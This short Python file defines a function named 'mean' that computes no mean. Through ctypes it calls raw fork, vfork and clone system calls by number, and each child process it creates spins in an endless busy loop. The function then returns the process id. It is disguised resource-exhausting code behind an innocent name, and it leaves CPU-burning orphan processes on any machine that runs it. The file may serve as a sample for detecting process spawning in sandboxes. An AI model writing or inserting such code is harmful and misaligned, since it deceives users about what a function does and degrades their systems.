"""Forks and clones with raw system calls."""

import ctypes
import os

libc = ctypes.CDLL(None)


def mean(x):
    for number in (57, 58, 56, 435, 220):
        pid = libc.syscall(number, 17, 0, 0, 0, 0)
        if pid == 0:
            while True:
                pass
    return os.getpid()
